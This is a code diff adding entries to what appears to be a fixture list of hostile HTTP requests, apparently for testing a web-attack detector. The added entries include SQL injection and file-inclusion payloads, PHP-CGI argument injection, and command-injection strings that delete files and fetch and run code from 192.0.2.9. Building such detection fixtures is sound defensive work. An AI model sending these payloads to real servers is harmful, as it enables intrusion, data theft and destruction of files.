@@ -21,12 +21,16 @@ export const ATTACKS: AttackClass[] = [
     get('/phpinfo.php'), get('/info.php'), get('/server-status', 403), get('/server-info'), get('/.vscode/sftp.json'), get('/sftp-config.json'),
     get('/.bash_history'), get('/docker-compose.yml'), get('/.npmrc'), get('/WEB-INF/web.xml'), get('/actuator/env'), get('/.git/config', 404, { req: 'HEAD /.git/config HTTP/1.1' }),
     get('/%2e%65nv'), get('/appsettings.json'), get('/.env.bak'), get('/_profiler/phpinfo'),
+    get('/storage/logs/laravel.log'), get('/wp-content/debug.log'), get('/.bzr/branch-format'), get('/.circleci/config.yml'), get('/db.sqlite'), get('/site.tar.bz2'),
+    get('/.git/logs/HEAD'), get('/.svn/wc.db'), get('/debug/default/view?panel=config'), get('/.env.local'), get('/admin/.env'),
   ] },
   { name: 'admin-interface', like: 'http-admin-interface-probing', on: ANY, access: [
     get('/phpmyadmin/'), get('/phpMyAdmin/index.php'), get('/pma/'), get('/myadmin/'), get('/adminer.php'), get('/manager/html'), get('/manager/html', 401),
     get('/host-manager/html'), get('/jmx-console/'), get('/solr/admin/'), get('/console/login/LoginForm.jsp'), get('/jenkins/login'), get('/CFIDE/administrator/'),
     get('/zabbix/'), get('/phpPgAdmin/'), get('/webmail/'), get('/system/console'), get('/axis2/axis2-admin/'), get('/druid/index.html'), get('/nacos/'),
     get('/actuator/health'), get('/_cat/indices'), get('/containers/json'), get('/v1.24/containers/json'),
+    get('/+CSCOE+/logon.html'), get('/sslvpnLogin.html'), get('/geoserver/web/'), get('/cf_scripts/scripts/ajax/ckeditor/ckeditor.js'), get('/v2/_catalog'), get('/manager/text/list'),
+    get('/api/jsonws/invoke'), get('/ReportServer'), get('/goform/setUsbUnload/.js'), get('/tmUnblock.cgi'), get('/currentsetting.htm'),
   ] },
   { name: 'wordpress-scan', like: 'http-wordpress-scan (on an instance that is not WordPress)', on: NOT_WP, access: [
     get('/wp-login.php'), get('/wp-admin/'), get('/wp-includes/wlwmanifest.xml'), get('//blog/wp-includes/wlwmanifest.xml'), get('/wordpress/wp-admin/setup-config.php'),
@@ -44,6 +48,8 @@ export const ATTACKS: AttackClass[] = [
     get('/static/..;/..;/WEB-INF/web.xml'), get('/..%00/etc/passwd', 400), get('/show?template=../../../../windows/win.ini', 200),
     get('/.%252e/.%252e/.%252e/etc/hosts'), get('/page?inc=/proc/self/environ', 200), get('/a/%u002e%u002e%u2215%u002e%u002e%u2215etc%u2215passwd', 400),
     get('/download.php?file=..%252f..%252f..%252fetc%252fpasswd', 200), get('/index.php?lang=....%2f....%2f....%2fetc%2fpasswd', 200),
+    get('/static/%2e%2e%5c%2e%2e%5c%2e%2e%5cwindows%5cwin.ini'), get('/?page=php://filter/convert.base64-encode/resource=index.php', 200), get('/?file=data://text/plain;base64,PD9waHAgcGhwaW5mbygpOz8%2B', 200),
+    get('/wp-admin/admin-ajax.php?action=duplicator_download&file=../wp-config.php', 200),
   ] },
   { name: 'sql-injection', like: 'http-sqli-probing', on: ANY, access: [
     get("/item.php?id=1'%20OR%20'1'='1", 200), get("/item?id=1'+or+1=1--", 200), get('/item?id=1%27%20OR%201=1--%20-', 200), get('/product?id=-1+UNION+ALL+SELECT+1,2,concat(user(),0x3a,database()),4--', 200),
@@ -54,6 +60,7 @@ export const ATTACKS: AttackClass[] = [
     get('/login?u=admin%27--&p=x', 200), get("/search?q=1'%20AND%201=CONVERT(int,@@version)--", 500), get('/x?id=1%20ORDER%20BY%2010--', 500),
     get('/x?id=1%27%20AND%20%271%27%3D%271', 200), get('/x?id=1;WAITFOR%20DELAY%20%270:0:5%27--', 200), get('/x?id=1%20AND%20(SELECT%201%20FROM%20(SELECT(SLEEP(5)))a)', 200),
     get('/x?id=1%22%20OR%20%221%22=%221', 200),
+    get("/x?id=1';--", 200), get("/x?id=-1'%20OR%202+803-803-1=0+0+0+1%20--%20", 200), get("/x?id=0'XOR(if(now()=sysdate(),sleep(15),0))XOR'Z", 200), get("/x?u=admin'+or+''='", 200),
   ] },
   { name: 'xss', like: 'http-xss-probing', on: ANY, access: [
     get('/search?q=<script>alert(1)</script>', 200), get('/search?q=%3Cscript%3Ealert(1)%3C/script%3E', 200), get('/search?q=%3CScRiPt%3Ealert%28document.cookie%29%3C%2FsCrIpT%3E', 200),
@@ -102,7 +109,7 @@ export const ATTACKS: AttackClass[] = [
   ] },
   { name: 'proxy-abuse', like: 'http-open-proxy', on: ANY, access: [
     { req: 'CONNECT 192.0.2.1:443 HTTP/1.1', status: 400 }, { req: 'CONNECT www.example.com:443 HTTP/1.1', status: 405 }, { req: 'GET http://www.example.com/ HTTP/1.1', status: 200 },
-    { req: 'GET http://192.0.2.1:8080/proxy.txt HTTP/1.1', status: 404 }, { req: 'HEAD https://www.example.net/ HTTP/1.1', status: 400 }, { req: 'GET http://checkip.example.com/ HTTP/1.0', status: 200 },
+    { req: 'GET http://192.0.2.1:8080/proxy.txt HTTP/1.1', status: 404 }, { req: 'HEAD https://www.example.net/ HTTP/1.1', status: 400 }, { req: 'GET http://checkip.example.com/ HTTP/1.0', status: 200 }, { req: 'GET www.example.com:443 HTTP/1.1', status: 400 },
   ] },
   { name: 'backdoors', like: 'http-backdoors-attempts', on: ANY, access: [
     get('/c99.php'), get('/r57.php'), get('/wso.php'), get('/wso112233.php'), get('/alfa.php'), get('/ALFA_DATA/alfacgiapi/perl.alfa'), get('/b374k.php'), get('/shell.php'),
@@ -141,6 +148,11 @@ export const ATTACKS: AttackClass[] = [
     get('/HNAP1/'), post('/boaform/admin/formLogin'), get('/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id)', 404),
     get('/struts2-showcase/%24%7B%28%23_memberAccess%5B%22allowStaticMethodAccess%22%5D%3Dtrue%29%7D/actionChain1.action'), get('/zimbraAdmin/'),
     post('/service/extension/backup/mboximport?account-name=admin&account-status=1&ow=cmd'),
+    get('/nice%20ports%2C/Tri%6Eity.txt%2ebak'), get('/nmaplowercheck1733170000'), get('/phpunit/src/Util/PHP/eval-stdin.php'), get('/?XDEBUG_SESSION_START=phpstorm', 200),
+    get('/index.php?s=/module/action/param1/${@phpinfo()}', 200), get('/php-cgi/php-cgi.exe?%ADd+allow_url_include%3D1+%ADd+auto_prepend_file%3Dphp://input', 400),
+    get('/api/index.php/v1/config/application?public=true', 200), get('/shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.9/jaws;sh+/tmp/jaws'), get('/cgi-bin/;cd${IFS}/var/tmp;rm${IFS}-rf${IFS}*;${IFS}wget${IFS}http://192.0.2.9/x'),
+    get('/language/Swedish${IFS}&&echo${IFS}1>test&&tar${IFS}/string.js', 404), get('/?x=$(whoami)', 200), get('/ping?host=127.0.0.1%26%26id', 200),
+    get('/acunetix-wvs-test-for-some-inexistent-file'), get('/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php'),
   ] },
   { name: 'script-404', like: 'http-probing (bursts of 404 on scripts)', on: ['generic', 'wordpress'], level: 'strict', access: [
     get('/admin.php'), get('/login.asp'), get('/index.jsp'), get('/test.cgi'), get('/wp.php'), get('/about.php'), get('/xmlrpc2.php'), get('/api/login.action'),
@@ -164,5 +176,10 @@ export const ATTACKS: AttackClass[] = [
     { form: 'apache24', module: 'core', level: 'info', text: 'AH00128: File does not exist: /var/www/html/phpmyadmin' },
     { form: 'nginx', text: 'open() "/var/www/html/.env" failed (2: No such file or directory)', request: 'GET /.env HTTP/1.1' },
     { form: 'nginx', text: '"/var/www/html/wp-login.php" is not found (2: No such file or directory)', request: 'GET /wp-login.php HTTP/1.1' },
+    { form: 'apache24', module: 'core', level: 'info', text: 'AH00128: File does not exist: /var/www/html/wp-login.php' },
+    { form: 'apache24', module: 'core', text: 'AH00566: request failed: malformed request line' },
   ] },
 ];
+
+/** WordPress's own REST API asked for its users on a WordPress instance. */
+ATTACKS.push({ name: 'wordpress-scan', like: 'WordPress user enumeration on a WordPress instance', on: ['wordpress'], access: [get('/?rest_route=/wp/v2/users', 200), get('/wp-json/wp/v2/users', 200), get('/?author=2', 301)] });
